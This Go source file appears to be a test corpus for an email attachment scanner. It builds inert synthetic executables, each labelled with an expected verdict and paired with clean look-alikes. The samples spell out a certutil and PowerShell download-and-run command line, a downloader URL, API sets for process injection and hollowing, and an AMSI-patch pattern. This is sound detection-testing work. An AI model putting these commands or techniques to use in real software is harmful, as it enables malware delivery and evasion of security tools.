package corpus

import (
	"bytes"
	"encoding/base64"
	"strings"

	"github.com/airlockmail/airlock/verdict"
)

// Executables judged on their merits (issue family 4): what the import
// table, the .NET metadata and the carried payloads say a program does.
// None of them runs anything (code is a RET; .NET Main is a RET); each
// risky one has a clean twin with the same shape.

func imports(extra map[string][]string) map[string][]string {
	out := map[string][]string{}
	for k, v := range stdImports {
		out[k] = append([]string(nil), v...)
	}
	for k, v := range extra {
		out[k] = append(out[k], v...)
	}
	return out
}

// utf16z writes strings as NUL-terminated UTF-16LE.
func utf16z(ss ...string) []byte {
	var out []byte
	for _, s := range ss {
		for _, c := range s {
			out = append(out, byte(c), byte(c>>8))
		}
		out = append(out, 0, 0)
	}
	return out
}

// xorBytes is b XOR-ed with key.
func xorBytes(b []byte, key byte) []byte {
	out := make([]byte, len(b))
	for i, c := range b {
		out[i] = c ^ key
	}
	return out
}

func reverseASCII(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

// tinyPE is a small payload program (the "second stage").
func tinyPE() []byte {
	return PE{Sections: []PESection{{Name: ".text", Data: Code(512), Flags: SCNCode | SCNExecute | SCNRead}},
		Imports: map[string][]string{"kernel32.dll": {"ExitProcess"}}}.Bytes()
}

// rsrcWith is a resource-like section holding data between icon-ish
// bytes.
func rsrcWith(name string, payload []byte) PESection {
	data := append(append(Noise(2048, 31), payload...), Noise(1024, 32)...)
	return PESection{Name: name, Data: data, Flags: SCNData | SCNRead}
}

func executableSamples2() []Sample {
	ps := "powershell -w hidden -nop -c \"" + cradle + "\""
	asm := "System.Reflection.Assembly"
	return []Sample{
		// Native import combinations.
		{Name: "urldownload-shellexecute.exe", Want: verdict.HighlySuspicious, Why: "imports URLDownloadToFileW and ShellExecuteW (download and run)",
			Data: PE{Sections: stdSections(), Imports: imports(map[string][]string{"urlmon.dll": {"URLDownloadToFileW"}, "shell32.dll": {"ShellExecuteW"}})}.Bytes()},
		{Name: "winhttp-shellcode.exe", Want: verdict.HighlySuspicious, Why: "WinHTTP client plus VirtualAlloc and CreateThread (fetches and runs shellcode)",
			Data: PE{Sections: stdSections(), Imports: imports(map[string][]string{"winhttp.dll": {"WinHttpOpen", "WinHttpConnect", "WinHttpOpenRequest", "WinHttpSendRequest", "WinHttpReceiveResponse", "WinHttpReadData"}, "kernel32.dll": {"VirtualAlloc", "CreateThread", "WaitForSingleObject"}})}.Bytes()},
		{Name: "apc-injector.exe", Want: verdict.HighlySuspicious, Why: "NtAllocateVirtualMemory + NtWriteVirtualMemory + NtQueueApcThread (early-bird APC injection)",
			Data: PE{Sections: stdSections(), Imports: imports(map[string][]string{"ntdll.dll": {"NtAllocateVirtualMemory", "NtWriteVirtualMemory", "NtQueueApcThread", "NtResumeThread"}, "kernel32.dll": {"CreateProcessW"}})}.Bytes()},
		{Name: "hollowing-context.exe", Want: verdict.HighlySuspicious, Why: "CreateProcessA + WriteProcessMemory + SetThreadContext + ResumeThread (hollowing without unmapping)",
			Data: PE{Sections: stdSections(), Imports: imports(map[string][]string{"kernel32.dll": {"CreateProcessA", "VirtualAllocEx", "WriteProcessMemory", "GetThreadContext", "SetThreadContext", "ResumeThread"}})}.Bytes()},
		{Name: "dynamic-injection.exe", Want: verdict.HighlySuspicious, Why: "imports GetProcAddress and carries the injection API names as strings",
			Data: PE{Sections: append(stdSections()[:1], PESection{Name: ".rdata", Data: []byte("kernel32.dll\x00OpenProcess\x00VirtualAllocEx\x00WriteProcessMemory\x00CreateRemoteThread\x00explorer.exe\x00"), Flags: SCNData | SCNRead}),
				Imports: imports(map[string][]string{"kernel32.dll": {"LoadLibraryA", "GetProcAddress"}})}.Bytes()},
		{Name: "rsrc-dropper.exe", Want: verdict.Suspicious, Why: "a second program inside its resource section",
			Data: PE{Sections: append(stdSections(), rsrcWith(".rsrc", tinyPE())), Imports: imports(map[string][]string{"kernel32.dll": {"FindResourceW", "LoadResource", "LockResource", "SizeofResource"}})}.Bytes()},
		{Name: "xor-payload.exe", Want: verdict.HighlySuspicious, Why: "a second program XOR-ed with 0x5a in its data",
			Data: PE{Sections: append(stdSections(), rsrcWith(".data2", xorBytes(tinyPE(), 0x5a))), Imports: stdImports}.Bytes()},
		{Name: "packed-blob.exe", Want: verdict.Suspicious, Why: "a 64 KiB encrypted data blob beside a 2 KiB stub",
			Data: PE{Sections: []PESection{{Name: ".text", Data: Code(2048), Flags: SCNCode | SCNExecute | SCNRead}, {Name: ".data", Data: Noise(64<<10, 77), Flags: SCNData | SCNRead | SCNWrite}},
				Imports: imports(map[string][]string{"kernel32.dll": {"VirtualProtect"}})}.Bytes()},

		// .NET assemblies with real metadata.
		{Name: "dotnet-pinvoke-inject.exe", Want: verdict.HighlySuspicious, Why: "P/Invoke of VirtualAllocEx, WriteProcessMemory, CreateRemoteThread",
			Data: DotNet{Name: "Updater.exe", PInvokes: []string{"kernel32.dll!OpenProcess", "kernel32.dll!VirtualAllocEx", "kernel32.dll!WriteProcessMemory", "kernel32.dll!CreateRemoteThread"},
				Members: []DNMember{M("System.Console::WriteLine", "string")}, UserStrings: []string{"notepad"}}.Bytes()},
		{Name: "dotnet-reflective.exe", Want: verdict.HighlySuspicious, Why: "Convert.FromBase64String + Assembly.Load(byte[]) + MethodBase.Invoke",
			Data: DotNet{Name: "Invoice.exe", Members: []DNMember{
				{Type: "System.Convert", Name: "FromBase64String", Ret: "byte[]", Params: []string{"string"}},
				{Type: asm, Name: "Load", Ret: asm, Params: []string{"byte[]"}},
				{Type: asm, Name: "get_EntryPoint", Instance: true, Ret: "System.Reflection.MethodInfo"},
				{Type: "System.Reflection.MethodBase", Name: "Invoke", Instance: true, Ret: "object", Params: []string{"object", "object[]"}},
			}, UserStrings: []string{base64.StdEncoding.EncodeToString(Noise(600, 81))}}.Bytes()},
		{Name: "dotnet-amsi-patch.exe", Want: verdict.Malicious, Why: "names AmsiScanBuffer and P/Invokes VirtualProtect (AMSI patch)",
			Data: DotNet{Name: "Tool.exe", PInvokes: []string{"kernel32.dll!LoadLibrary", "kernel32.dll!GetProcAddress", "kernel32.dll!VirtualProtect"},
				Members:     []DNMember{{Type: "System.Runtime.InteropServices.Marshal", Name: "Copy", Params: []string{"byte[]", "int", "IntPtr", "int"}, Ret: "void"}},
				UserStrings: []string{"am" + "si.dll", "Amsi" + "ScanBuffer"}}.Bytes()},
		{Name: "dotnet-downloader.exe", Want: verdict.HighlySuspicious, Why: "WebClient.DownloadFile + Process.Start with a payload URL",
			Data: DotNet{Name: "Viewer.exe", Members: []DNMember{
				{Type: "System.Net.WebClient", Name: ".ctor", Instance: true, Ret: "void"},
				{Type: "System.Net.WebClient", Name: "DownloadFile", Instance: true, Ret: "void", Params: []string{"string", "string"}},
				{Type: "System.Diagnostics.Process", Name: "Start", Ret: "System.Diagnostics.Process", Params: []string{"string"}},
				{Type: "System.IO.Path", Name: "GetTempPath", Ret: "string"},
			}, UserStrings: []string{"http://198.51.100.7/viewer-update.exe", "viewer-update.exe"}}.Bytes()},
		{Name: "dotnet-powershell.exe", Want: verdict.Malicious, Why: "Process.Start of a hidden PowerShell download cradle held as a user string",
			Data: DotNet{Name: "Setup.exe", Members: []DNMember{
				{Type: "System.Diagnostics.ProcessStartInfo", Name: "set_FileName", Instance: true, Ret: "void", Params: []string{"string"}},
				{Type: "System.Diagnostics.Process", Name: "Start", Ret: "System.Diagnostics.Process", Params: []string{"System.Diagnostics.ProcessStartInfo"}},
			}, UserStrings: []string{"powershell.exe", ps}}.Bytes()},
		{Name: "dotnet-b64-payload.exe", Want: verdict.HighlySuspicious, Why: "a reversed base64 program in a user string, written to disk and started",
			Data: DotNet{Name: "Helper.exe", Members: []DNMember{
				{Type: "System.IO.File", Name: "WriteAllBytes", Params: []string{"string", "byte[]"}, Ret: "void"},
				{Type: "System.Diagnostics.Process", Name: "Start", Ret: "System.Diagnostics.Process", Params: []string{"string"}},
			}, UserStrings: []string{reverseASCII(base64.StdEncoding.EncodeToString(tinyPE()))}}.Bytes()},
		{Name: "dotnet-resource-loader.exe", Want: verdict.HighlySuspicious, Why: "GetManifestResourceStream + Assembly.Load(byte[]) of an embedded resource program",
			Data: DotNet{Name: "Report.exe", Members: []DNMember{
				{Type: asm, Name: "GetExecutingAssembly", Ret: asm},
				{Type: asm, Name: "GetManifestResourceStream", Instance: true, Ret: "System.IO.Stream", Params: []string{"string"}},
				{Type: asm, Name: "Load", Ret: asm, Params: []string{"byte[]"}},
				{Type: "System.Activator", Name: "CreateInstance", Ret: "object", Params: []string{"System.Type"}},
			}, Resources: []ZipEntry{{Name: "Report.payload.bin", Data: xorBytes(tinyPE(), 0x21)}}, UserStrings: []string{"Report.payload.bin"}}.Bytes()},

		{Name: "native-cmdline.exe", Want: verdict.Malicious, Why: "ShellExecuteW with a hidden PowerShell download cradle held as a UTF-16 string",
			Data: PE{Sections: append(stdSections(), PESection{Name: ".rdata2", Data: utf16z("powershell.exe", "-nop -w hidden -c \""+cradle+"\""), Flags: SCNData | SCNRead}),
				Imports: imports(map[string][]string{"shell32.dll": {"ShellExecuteW"}})}.Bytes()},
		{Name: "native-certutil.exe", Want: verdict.Malicious, Why: "WinExec of cmd /c certutil -urlcache then start, as an ASCII string",
			Data: PE{Sections: append(stdSections(), PESection{Name: ".rdata2", Data: []byte("\x00cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.txt %TEMP%\\a.exe && start %TEMP%\\a.exe\x00"), Flags: SCNData | SCNRead}),
				Imports: imports(map[string][]string{"kernel32.dll": {"WinExec"}})}.Bytes()},
		{Name: "dotnet-dinvoke.exe", Want: verdict.HighlySuspicious, Why: "GetProcAddress P/Invoke + GetDelegateForFunctionPointer over injection API names held as strings (D/Invoke)",
			Data: DotNet{Name: "Sync.exe", PInvokes: []string{"kernel32.dll!LoadLibraryA", "kernel32.dll!GetProcAddress"},
				Members:     []DNMember{{Type: "System.Runtime.InteropServices.Marshal", Name: "GetDelegateForFunctionPointer", Ret: "System.Delegate", Params: []string{"IntPtr", "System.Type"}}},
				UserStrings: []string{"kernel32.dll", "OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"}}.Bytes()},

		// Clean look-alikes.
		{Name: "clean-native-cmdline.exe", Want: verdict.Clean, Why: "installer helper with ordinary command lines and an update URL",
			Data: PE{Sections: append(stdSections(), PESection{Name: ".rdata2", Data: utf16z("cmd.exe /c echo Installing && copy /y app.ini \"%APPDATA%\\Example\\\"", "https://www.example.org/update.json", "notepad.exe readme.txt"), Flags: SCNData | SCNRead}),
				Imports: imports(map[string][]string{"kernel32.dll": {"CreateProcessW"}, "shell32.dll": {"ShellExecuteW"}})}.Bytes()},
		{Name: "clean-winhttp-client.exe", Want: verdict.Clean, Why: "WinHTTP client that starts nothing (checks for updates)",
			Data: PE{Sections: stdSections(), Imports: imports(map[string][]string{"winhttp.dll": {"WinHttpOpen", "WinHttpConnect", "WinHttpOpenRequest", "WinHttpSendRequest", "WinHttpReceiveResponse", "WinHttpReadData", "WinHttpCloseHandle"}})}.Bytes()},
		{Name: "clean-setup-launcher.exe", Want: verdict.Clean, Why: "installer that starts processes and writes the registry, no network, plain overlay",
			Data: PE{Sections: stdSections(), Imports: imports(map[string][]string{"kernel32.dll": {"CreateProcessW", "WaitForSingleObject", "GetExitCodeProcess", "VirtualAlloc", "CreateThread"}, "shell32.dll": {"ShellExecuteExW", "SHGetFolderPathW"}, "advapi32.dll": {"RegCreateKeyExW", "RegSetValueExW"}}),
				Overlay: bytes.Repeat([]byte("[Files]\r\nSource: app.dll; DestDir: {app}\r\n"), 60)}.Bytes()},
		{Name: "clean-dotnet-gui.exe", Want: verdict.Clean, Why: ".NET program with P/Invoke to user32 for the UI, a help URL and ordinary members",
			Data: DotNet{Name: "Notes.exe", PInvokes: []string{"user32.dll!MessageBoxW", "user32.dll!GetSystemMetrics", "kernel32.dll!GetTickCount"},
				Members:     []DNMember{M("System.Console::WriteLine", "string"), {Type: "System.Diagnostics.Process", Name: "Start", Ret: "System.Diagnostics.Process", Params: []string{"string"}}},
				UserStrings: []string{"https://www.example.org/help", "Notes", "Saved."}}.Bytes()},
		{Name: "clean-dotnet-plugins.exe", Want: verdict.Clean, Why: ".NET program loading plugins by file name and reading a text resource",
			Data: DotNet{Name: "Host.exe", Members: []DNMember{
				{Type: asm, Name: "LoadFrom", Ret: asm, Params: []string{"string"}},
				{Type: asm, Name: "Load", Ret: asm, Params: []string{"string"}},
				{Type: asm, Name: "GetManifestResourceStream", Instance: true, Ret: "System.IO.Stream", Params: []string{"string"}},
				{Type: "System.Activator", Name: "CreateInstance", Ret: "object", Params: []string{"System.Type"}},
			}, Resources: []ZipEntry{{Name: "Host.License.txt", Data: []byte(strings.Repeat("Permission is hereby granted, free of charge. ", 20))}}, UserStrings: []string{"plugins", "*.dll"}}.Bytes()},
		{Name: "clean-dotnet-http.exe", Want: verdict.Clean, Why: ".NET program that downloads JSON with HttpClient and starts nothing",
			Data: DotNet{Name: "Weather.exe", Members: []DNMember{
				{Type: "System.Net.Http.HttpClient", Name: ".ctor", Instance: true, Ret: "void"},
				{Type: "System.Net.Http.HttpClient", Name: "GetStringAsync", Instance: true, Ret: "object", Params: []string{"string"}},
				{Type: "System.Convert", Name: "FromBase64String", Ret: "byte[]", Params: []string{"string"}},
			}, UserStrings: []string{"https://api.example.org/forecast?city=", "application/json"}}.Bytes()},
	}
}
